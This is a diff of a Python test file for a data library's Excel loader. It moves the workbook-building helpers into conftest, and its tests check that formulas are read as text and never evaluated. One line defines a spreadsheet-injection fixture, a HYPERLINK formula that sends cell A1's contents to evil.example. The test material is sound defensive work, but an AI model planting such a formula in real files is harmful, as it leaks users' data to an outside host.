@@ -9,7 +9,7 @@ import zipfile
 import openpyxl
 import pandas as pd
 import pytest
-from conftest import tiny_files
+from conftest import tiny_sheets, workbook_of
 
 from graphmodel.data import read
 from graphmodel.data.export import to_xlsx
@@ -20,24 +20,6 @@ from graphmodel.errors import SpecError, ValidationError
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 
-def workbook(sheets: dict[str, list[list]]) -> bytes:
-    wb = openpyxl.Workbook()
-    wb.remove(wb.active)
-    for title, rows in sheets.items():
-        ws = wb.create_sheet(title)
-        for row in rows:
-            ws.append(row)
-    buf = io.BytesIO()
-    wb.save(buf)
-    return buf.getvalue()
-
-
-def tiny_sheets() -> dict[str, list[list]]:
-    """The tiny dataset's tables as rows of text (as a CSV-to-Excel paste gives)."""
-    out = {}
-    for file, text in tiny_files().items():
-        out[file[:-4]] = [line.split(",") for line in text.strip().splitlines()]
-    return out
 
 
 def problems(source) -> list:
@@ -51,7 +33,7 @@ def problems(source) -> list:
 
 def test_a_workbook_of_the_tiny_dataset_loads_like_the_csv(tiny_model, tmp_path):
     path = tmp_path / "tiny.xlsx"
-    path.write_bytes(workbook(tiny_sheets()))
+    path.write_bytes(workbook_of(tiny_sheets()))
     m = load(path)
     assert m.name == "tiny"
     assert m.content_hash() == tiny_model.content_hash()
@@ -63,7 +45,7 @@ def test_a_workbook_of_the_tiny_dataset_loads_like_the_csv(tiny_model, tmp_path)
 
 def test_sheet_names_match_in_any_case_and_other_sheets_are_ignored(tiny_model):
     sheets = tiny_sheets()
-    data = workbook({"Notes": [["hello"]], "ACTORS": sheets["actors"],
+    data = workbook_of({"Notes": [["hello"]], "ACTORS": sheets["actors"],
                      "Collaborations": sheets["collaborations"],
                      "memberships ": sheets["memberships"]})
     assert load(data).content_hash() == tiny_model.content_hash()
@@ -73,7 +55,7 @@ def test_problems_name_the_sheet_and_the_spreadsheet_row():
     sheets = tiny_sheets()
     sheets["actors"][3][2] = "town"          # row 4 of the sheet
     sheets["memberships"][5][1] = "nowhere"  # row 6
-    errors = problems({"n.xlsx": workbook(sheets)})
+    errors = problems({"n.xlsx": workbook_of(sheets)})
     where = {(p.file, p.line, p.column) for p in errors}
     assert ("n.xlsx[actors]", 4, "kind") in where
     assert ("n.xlsx[memberships]", 6, "collaboration") in where
@@ -84,7 +66,7 @@ def test_problems_name_the_sheet_and_the_spreadsheet_row():
 def test_a_missing_sheet_is_a_problem_of_that_sheet():
     sheets = tiny_sheets()
     del sheets["memberships"]
-    errors = problems({"n.xlsx": workbook(sheets)})
+    errors = problems({"n.xlsx": workbook_of(sheets)})
     assert [(p.file, p.line) for p in errors] == [("n.xlsx[memberships]", None)]
     assert "no sheet named 'memberships'" in errors[0].message
 
@@ -99,7 +81,7 @@ def test_native_numbers_dates_and_formulas_are_read_as_text_never_evaluated():
                                  dt.date(2020, 12, 31)]]
     sheets["memberships"] = [["actor", "collaboration", "share"], ["a", "s1", 0.25],
                              ["b", "s1", 0.75]]
-    data = workbook(sheets)
+    data = workbook_of(sheets)
     ws = openpyxl.load_workbook(io.BytesIO(data))["actors"]
     assert ws["B2"].data_type == "f"  # openpyxl stored it as a formula: the hostile case
     m = load(data)
@@ -115,7 +97,7 @@ def test_native_numbers_dates_and_formulas_are_read_as_text_never_evaluated():
 def test_a_time_of_day_in_a_date_is_refused_with_its_row():
     sheets = tiny_sheets()
     sheets["collaborations"][2][8] = dt.datetime(2015, 1, 1, 13, 30)
-    errors = problems({"n.xlsx": workbook(sheets)})
+    errors = problems({"n.xlsx": workbook_of(sheets)})
     assert [(p.file, p.line, p.column) for p in errors] == [
         ("n.xlsx[collaborations]", 3, "start")]
 
@@ -123,13 +105,13 @@ def test_a_time_of_day_in_a_date_is_refused_with_its_row():
 def test_a_wide_row_is_refused_before_it_is_read():
     sheets = tiny_sheets()
     sheets["actors"].append(["x"] * (read.MAX_COLUMNS + 5))
-    errors = problems({"n.xlsx": workbook(sheets)})
+    errors = problems({"n.xlsx": workbook_of(sheets)})
     assert [(p.file, p.line) for p in errors] == [("n.xlsx[actors]", 7)]
     assert "columns" in errors[0].message
 
 
 def test_the_zip_limits_apply_to_a_workbook(monkeypatch):
-    data = workbook(tiny_sheets())
+    data = workbook_of(tiny_sheets())
     monkeypatch.setattr(read, "MAX_TOTAL_BYTES", len(data) + 100)
     errors = problems({"n.xlsx": data})
     assert errors and all(p.file == "n.xlsx" for p in errors)
